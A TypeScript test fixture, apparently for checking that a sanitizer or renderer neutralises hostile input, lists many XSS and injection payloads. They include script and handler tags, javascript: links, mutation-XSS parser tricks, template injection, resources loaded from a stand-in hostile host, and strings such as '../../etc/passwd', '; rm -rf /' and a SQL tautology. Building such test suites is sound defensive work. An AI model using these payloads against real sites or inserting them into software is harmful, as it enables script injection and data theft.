/** A kind of text that would do something if it were taken for anything but text, and its cases. */
export interface Kind {
  readonly name: string;
  readonly texts: readonly string[];
}

/** What a case does if it runs: a flag that the test looks for. */
const run = "window.__ran='yes'";
/** Where a case loads from: a name that leads nowhere, which the test looks for among the requests. */
const host = 'https://hostile.invalid';

const elements = ['img', 'svg', 'body', 'iframe', 'video', 'audio', 'input', 'details', 'marquee', 'object', 'embed', 'select', 'textarea', 'keygen', 'style'];
const handlers = ['onload', 'onerror', 'onfocus autofocus', 'onmouseover', 'onclick', 'ontoggle open', 'onstart', 'onpointerenter', 'onanimationstart', 'onbeforematch', 'onscrollend', 'oncontentvisibilityautostatechange'];
const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', ' javascript:', '\u0001javascript:', 'javascript&colon;', '&#106;avascript:', '&#x6A;avascript:', 'javascript&Tab;:', 'data:text/html,<script>', 'vbscript:'];
const bidi = ['\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069', '\u200E', '\u200F', '\u061C'];
const unseen = ['\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF', '\u00AD', '\u180E', '\u3164', '\u{E0041}', '\u0000', '\u0007', '\u001B[31m', '\u0085', '\u2028', '\u2029', '\uFFFE', '\uD800', '\uDFFF'];

export const kinds: readonly Kind[] = [
  {
    name: 'script elements',
    texts: [
      `<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<script src=${host}/a.js></script>`, `<script\n>${run}</script >`, `<scr<script>ipt>${run}</scr</script>ipt>`,
      `</script><script>${run}</script>`, `<script type=module>import '${host}/a.js'</script>`, `<script/xss>${run}</script>`, `<<script>${run}//<</script>`,
      `<script>/*<![CDATA[*/${run}/*]]>*/</script>`, `<script nomodule>${run}</script>`, `<noscript><p title="</noscript><script>${run}</script>">`, `<svg><script>${run}</script></svg>`,
      `<svg><script href="${host}/a.js"/></svg>`, `<math><script>${run}</script></math>`, `<template><script>${run}</script></template>`, `<!--><script>${run}</script-->`, `<script type="importmap">{"imports":{"a":"${host}"}}</script>`,
    ],
  },
  { name: 'handlers on elements', texts: elements.map((element) => `<${element} src=x onload="${run}" onerror="${run}">`) },
  { name: 'handlers of every sort', texts: handlers.map((handler) => `<div tabindex=1 ${handler.replace(/^(\w+)/, `$1="${run}"`)}>x</div>`) },
  { name: 'broken handlers', texts: [`<img src=x onerror=${run}//`, `<img/src=x/onerror=${run}>`, `<img src=x onerror\n=\n"${run}">`, `<img """><script>${run}</script>">`, `<img src=\`x\` onerror=${run}>`, `<a/onmouseover=${run}>x`, `"><img src=x onerror=${run}>`, `'><img src=x onerror=${run}>`, `" onfocus="${run}" autofocus x="`, `' onmouseover='${run}' x='`, `\` onclick=${run} \``, `</p><img src=x onerror=${run}>`, `</span></p></section><svg onload=${run}>`] },
  { name: 'addresses that run', texts: schemes.map((scheme) => `<a href="${scheme}${run}">Good night</a>`) },
  { name: 'addresses that run, bare', texts: schemes.map((scheme) => `${scheme}${run}`) },
  {
    name: 'things that load',
    texts: [
      `<img src=${host}/a.png>`, `<img srcset="${host}/a.png 2x">`, `<picture><source srcset=${host}/a.png></picture>`, `<video poster=${host}/a.png>`, `<audio src=${host}/a.mp3 autoplay>`, `<iframe src=${host}>`,
      `<iframe srcdoc="<img src=${host}/a.png>">`, `<object data=${host}/a.svg>`, `<embed src=${host}/a.swf>`, `<link rel=stylesheet href=${host}/a.css>`, `<link rel=preload as=image href=${host}/a.png>`, `<link rel=prefetch href=${host}>`,
      `<link rel=dns-prefetch href=//hostile.invalid>`, `<base href=${host}/>`, `<meta http-equiv=refresh content="0;url=${host}">`, `<form action=${host}><button>x</button></form>`, `<input type=image src=${host}/a.png>`, `<table background=${host}/a.png>`,
      `<body background=${host}/a.png>`, `<svg><image href=${host}/a.png /></svg>`, `<svg><use href="${host}/a.svg#a"/></svg>`, `<svg><feImage href=${host}/a.png /></svg>`, `<track src=${host}/a.vtt>`, `<portal src=${host}>`, `<frame src=${host}>`, `<bgsound src=${host}/a.mp3>`,
      `<html manifest=${host}/a>`, `<a ping=${host} href=#>x</a>`, `<img src=x style="background:url(${host}/a.png)">`, `<object type="text/html" data="${host}"></object>`,
    ],
  },
  {
    name: 'styles',
    texts: [
      `<style>@import '${host}/a.css';</style>`, `<style>body{background:url(${host}/a.png)}</style>`, `<div style="background:url(${host}/a.png)">x</div>`, `<div style="position:fixed;inset:0;background:red">x</div>`, `<style>*{display:none}</style>`,
      `</style><script>${run}</script>`, `x{color:red}body{display:none}`, `expression(${run})`, `<link rel="stylesheet" href="data:text/css,*{display:none}">`, `<div style="width:expression(${run})">`,
    ],
  },
  {
    name: 'Markdown',
    texts: [
      `![a](${host}/a.png)`, `[a](javascript:${run})`, `[a]: ${host}`, `![a][b]\n\n[b]: ${host}/a.png`, `<${host}>`, `**bold** _thin_ ~~gone~~`, '# A heading', `> <img src=${host}/a.png>`, '```html\n<script>x</script>\n```', `- [ ] <svg onload=${run}>`,
      `[![a](${host}/a.png)](javascript:${run})`, `[a](<javascript:${run}>)`, `<details ontoggle=${run} open>`, `| a | b |\n|---|---|\n| <img src=x onerror=${run}> | c |`, `![a](data:image/svg+xml,<svg onload=${run}>)`, `[a](  javascript:${run} "title")`, `\\<script>${run}\\</script>`, `&lt;script&gt;${run}&lt;/script&gt;`,
    ],
  },
  {
    name: 'templates and code',
    texts: [
      `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `<%= ${run} %>`, `#{${run}}`, `{{7*7}}`, `[[${run}]]`, `{% include '${host}' %}`, `<?php echo 1 ?>`, `<?xml-stylesheet href="${host}/a.xsl"?>`, `'; ${run}; '`, `"; ${run}; "`, `\\'; ${run}; //`,
      `</textarea><script>${run}</script>`, `</title><script>${run}</script>`, `--><script>${run}</script><!--`, `]]><script>${run}</script>`, `<!ENTITY x SYSTEM "${host}">`, `<!DOCTYPE html><script>${run}</script>`, `__proto__`, `constructor`, `toString`, `$&$1$\``, `%3Cscript%3E${run}%3C/script%3E`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
    ],
  },
  {
    name: 'parser mutations',
    texts: [
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`, `<svg></p><style><a id="</style><img src=x onerror=${run}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`, `<select><noembed></select><script>${run}</script>`,
      `<noembed><img title="</noembed><img src=x onerror=${run}>">`, `<xmp><p title="</xmp><img src=x onerror=${run}>">`, `<plaintext><script>${run}</script>`, `<svg><foreignObject><iframe srcdoc="<script>parent.__ran='yes'</script>">`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:${run}>`,
      `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`, `<image src=x onerror=${run}>`, `<listing>&lt;img src=x onerror=${run}&gt;</listing>`, `<table><td><script>${run}</script>`, `<frameset onload=${run}>`, `<isindex action=javascript:${run}>`, `\u00BCscript\u00BE${run}\u00BC/script\u00BE`, `\uFF1Cscript\uFF1E${run}\uFF1C/script\uFF1E`, `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `<\u0000script>${run}</script>`,
    ],
  },
  { name: 'direction marks', texts: bidi.map((mark) => `The ${mark}fox${mark} said good ${mark}night`) },
  { name: 'unseen and impossible signs', texts: unseen.map((sign) => `Mia${sign}<b>x</b>${sign}slept`) },
  {
    name: 'signs of other kinds',
    texts: [
      `Z\u0351\u036B\u0343a\u0334\u0308l\u034Fg\u0321o${'\u0336'.repeat(200)}`, '\uFDFD'.repeat(20), '😀'.repeat(300), '👩‍👩‍👧‍👦'.repeat(30), 'a'.repeat(5000), `${'word '.repeat(800)}`, 'שלום <b>לילה</b> טוב', 'مرحبا <img src=x> بالعالم', 'नमस्ते', '\u202E<script>\u202Dx</script>', '🇩🇪🏴󠁧󠁢󠁥󠁮󠁧󠁿', '\u0300<b>', '<', '>', '&', '&amp;', '&#x3C;', '""', "''", '`', '\\', '\\n', '%s%n%x', '../../etc/passwd', 'C:\\con\\nul', '=HYPERLINK("https://hostile.invalid")', '@SUM(1+1)', '; rm -rf /', "' OR 1=1 --", '</speak><audio src="https://hostile.invalid/a.mp3"/>',
    ],
  },
];

export const vectors: readonly { readonly kind: string; readonly text: string }[] = kinds.flatMap(({ name, texts }) => texts.map((text) => ({ kind: name, text })));

/** The name that no request may go to. */
export const hostileHost = 'hostile.invalid';
